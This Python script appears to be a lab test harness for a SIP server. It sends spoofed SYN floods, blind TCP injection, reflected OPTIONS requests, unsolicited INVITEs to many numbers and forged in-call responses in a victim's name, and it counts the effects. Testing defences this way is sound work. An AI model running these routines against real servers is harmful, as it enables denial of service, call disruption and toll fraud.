#!/usr/bin/python3
# SPDX-License-Identifier: GPL-2.0-only
"""What somebody does in another one's name to spend what is his, to have his connection closed, or
to use the agent's probes. Prints how many packets it sent."""

import argparse
import os
import random
import socket
import struct
import time

import sip
from raw import ACK, PSH, SYN, Wire, datagram, ip, tcp

SERVER = os.environ["SERVER"]


def syns(wire, o):
    """SYNs from other ports of the victim, for as long as it is said."""
    sent, end = 0, time.monotonic() + o.seconds
    while time.monotonic() < end:
        wire.send(ip(o.victim, SERVER, socket.IPPROTO_TCP,
                     tcp(o.victim, SERVER, random.randrange(1024, 30000), 5060,
                         random.getrandbits(32), 0, SYN)))
        sent += 1
        time.sleep(0.001)
    return sent


def numbers(wire, o):
    """Calls to many numbers."""
    for number in range(60):
        user = f"00882{1000 + number}"
        wire.send(datagram(o.victim, SERVER, sip.request("INVITE", user, SERVER, (o.victim, 5060)),
                           o.sport, ttl=o.ttl))
        time.sleep(0.005)
    return 60


def every_ttl(wire, o):
    """INVITEs with the victim's address and port, and with each TTL: one of them is his path."""
    frames = [wire.frame(datagram(o.victim, SERVER,
                                  sip.request("INVITE", "call", SERVER, (o.victim, o.sport)),
                                  o.sport, ttl=ttl)) for ttl in range(*o.ttls)]
    sent, end = 0, time.monotonic() + o.seconds
    while time.monotonic() < end:
        for frame in frames:
            wire.sock.send(frame)
        sent += len(frames)
    return sent


def blind(wire, o):
    """Segments of the victim's TCP connection, with guessed sequence numbers."""
    text = sip.request("MESSAGE", "call", SERVER, (o.victim, o.sport), transport="TCP")
    for _ in range(4000):
        wire.send(ip(o.victim, SERVER, socket.IPPROTO_TCP,
                     tcp(o.victim, SERVER, o.sport, 5060, random.getrandbits(32),
                         random.getrandbits(32), ACK | PSH, text)))
    return 4000


def probed(wire, o):
    """Newcomers of any address: the agent is to send them a probe."""
    for source in o.source.split(","):
        for _ in range(3):
            wire.send(datagram(source, SERVER, sip.request("OPTIONS", "call", SERVER,
                                                           (source, o.sport)), o.sport))
        time.sleep(0.1)
    return 3 * len(o.source.split(","))


def reflected(wire, o):
    """Requests from many ports of the victim. Prints octets, too."""
    octets = 0
    for number in range(2000):
        packet = datagram(o.victim, SERVER, sip.request("OPTIONS", "call", SERVER,
                                                        (o.victim, 10000 + number)), 10000 + number)
        octets += len(packet)
        wire.send(packet)
        time.sleep(0.001)
    return f"2000 {octets}"


def hold(_wire, o):
    """The victim itself: an OPTIONS, a pause, and another one on the same connection."""
    said = []
    with socket.create_connection((SERVER, 5060), 2, (o.victim, o.sport)) as sock:
        for pause in (o.seconds, 0):
            try:
                sock.sendall(sip.request("OPTIONS", "call", SERVER, (o.victim, o.sport),
                                         transport="TCP"))
                said.append(sock.recv(65536).split()[1].decode())
            except (OSError, IndexError):
                said.append("closed")
            time.sleep(pause)
    return " ".join(said)


def count_probes(wire, o):
    """The victim itself: probes that come in, and their octets."""
    count = octets = 0
    for packet in wire.hear(o.seconds):
        if packet[0] >> 4 == 4 and b"OPTIONS sip:" in packet[:60]:
            count += 1
            octets += struct.unpack("!H", packet[2:4])[0]
    return f"{count} {octets}"


def answer(_wire, o):
    """An answer that nobody gave, inside a call (Call-ID, From-tag, To-tag): the server forwards it
    by its second Via to the victim."""
    call_id, from_tag, to_tag = o.call
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.sendto((f"SIP/2.0 {o.status} Whatever\r\n"
                     f"Via: SIP/2.0/UDP {SERVER}:5060;branch=z9hG4bKx\r\n"
                     f"Via: SIP/2.0/UDP {o.victim}:{o.sport};branch=z9hG4bK{sip.token()}\r\n"
                     f"From: <sip:caller@example.com>;tag={from_tag}\r\n"
                     f"To: <sip:call@{SERVER}>;tag={to_tag}\r\n"
                     f"Call-ID: {call_id}\r\nCSeq: 1 {o.method}\r\n"
                     f"Contact: <sip:call@{o.victim}>\r\nContent-Length: 0\r\n\r\n").encode(),
                    (SERVER, 5060))
    time.sleep(0.2)
    return 1


def inside(wire, o):
    """A request with made-up tags, which the answer repeats, in the victim's name."""
    call_id, from_tag, to_tag = o.call
    wire.send(datagram(o.victim, SERVER, sip.request(
        o.method, "call", SERVER, (o.victim, o.sport), call_id=call_id, from_tag=from_tag,
        to_tag=to_tag), o.sport))
    time.sleep(0.2)
    return 1


COMMANDS = {"syns": syns, "numbers": numbers, "every-ttl": every_ttl, "blind": blind,
            "probed": probed, "reflected": reflected, "hold": hold, "count-probes": count_probes,
            "answer": answer, "inside": inside}


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("--victim", default="10.77.0.10")
    parser.add_argument("--sport", type=int, default=5060)
    parser.add_argument("--ttls", type=int, nargs=2, default=(30, 129), help="from, and up to")
    parser.add_argument("--ttl", type=int, default=64)
    parser.add_argument("--seconds", type=float, default=3)
    parser.add_argument("--source", help="addresses, with commas between")
    parser.add_argument("--call", nargs=3, help="Call-ID, From-tag, To-tag")
    parser.add_argument("--method", default="INVITE")
    parser.add_argument("--status", default="200")
    parser.add_argument("command", choices=COMMANDS)
    options = parser.parse_args()
    print(COMMANDS[options.command](Wire(), options))


if __name__ == "__main__":
    main()
